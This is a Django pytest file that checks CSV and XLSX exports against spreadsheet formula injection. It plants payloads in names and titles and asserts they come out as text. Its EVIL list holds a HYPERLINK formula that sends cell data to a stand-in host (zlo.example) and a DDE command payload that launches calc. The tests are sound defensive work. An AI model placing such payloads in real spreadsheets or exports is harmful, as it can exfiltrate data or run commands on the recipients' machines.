"""Issue 7 point 3: exports write text as text. A member named ``=HYPERLINK(…)`` or
``=cmd|' /C calc'!A0`` must never become a formula: in XLSX the cell is a string, in CSV the
value gets a leading apostrophe (OWASP's advice) so that a spreadsheet shows it as text."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from klaster.core.exports import csv_text, workbook_bytes

EVIL = [
    '=HYPERLINK("http://zlo.example/?x="&A1,"Kliknij")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", EVIL)
def test_issue7_csv_text_neutralises_formula_starts(value):
    assert csv_text(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Alfa-Tech sp. z o.o.", "", "biuro@example.pl", 5, None, dt.date(2026, 1, 1)]
)
def test_issue7_csv_text_keeps_ordinary_values(value):
    assert csv_text(value) == value


def test_issue7_workbook_stores_formula_looking_strings_as_text():
    from openpyxl import Workbook, load_workbook

    wb = Workbook()
    for value in EVIL:
        wb.active.append([value, 3])
    back = load_workbook(io.BytesIO(workbook_bytes(wb)))
    cells = [row[0] for row in back.active.iter_rows()]
    # a bare CR survives as CR (lxml's writer) or as LF (the plain one): the text is the point
    assert [c.value.replace("\r", "\n") for c in cells] == [v.replace("\r", "\n") for v in EVIL]
    assert {c.data_type for c in cells} == {"s"}
    assert all(row[1].data_type == "n" for row in back.active.iter_rows())


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _evil_cell(rows, value):
    flat = [cell for row in rows for cell in row]
    assert value not in flat, "a formula-like value went out raw"
    return "'" + value in flat


def test_issue7_group_contacts_csv_first_column_is_text(world, client_for):
    """contacts.csv: the first column (a name) comes from a member's declaration, which its
    representative controls."""
    from klaster.groups.models import Declaration
    from tests.groups.builders import it_group

    group = it_group(world)
    Declaration.objects.filter(group=group, member=world.member_a).update(
        contact_name=EVIL[1], contact_email="a@example.pl"
    )
    response = client_for("member").get(
        reverse("group_contacts_csv", kwargs={"slug": "alfa", "group_id": group.pk})
    )
    assert response.status_code == 200
    assert _evil_cell(_rows(response), EVIL[1])


def test_issue7_group_export_csv_is_text(world, client_for):
    from tests.groups.builders import it_group

    group = it_group(world)
    group.name = EVIL[0]
    group.save(update_fields=["name"])
    response = client_for("office").get(reverse("group_export", kwargs={"slug": "alfa"}))
    assert response.status_code == 200
    assert _evil_cell(_rows(response), EVIL[0])


def test_issue7_vote_results_csv_is_text(world, client_for):
    from django.utils import timezone

    from klaster.governance.models import Vote
    from tests.factories import BallotFactory
    from tests.governance.matrix import vote

    v = Vote.objects.get(pk=vote(world))
    v.title = EVIL[2]
    v.save(update_fields=["title"])
    world.member_a.name = EVIL[1]
    world.member_a.save(update_fields=["name"])
    BallotFactory(
        vote=v,
        member=world.member_a,
        choice="for",
        cast_by_name="@Jan",
        via="own",
        cast_at=timezone.now(),
    )
    response = client_for("office").get(
        reverse("vote_results_csv", kwargs={"slug": "alfa", "vote_id": v.pk})
    )
    assert response.status_code == 200
    rows = _rows(response)
    assert _evil_cell(rows, EVIL[1]) and _evil_cell(rows, EVIL[2]) and _evil_cell(rows, "@Jan")
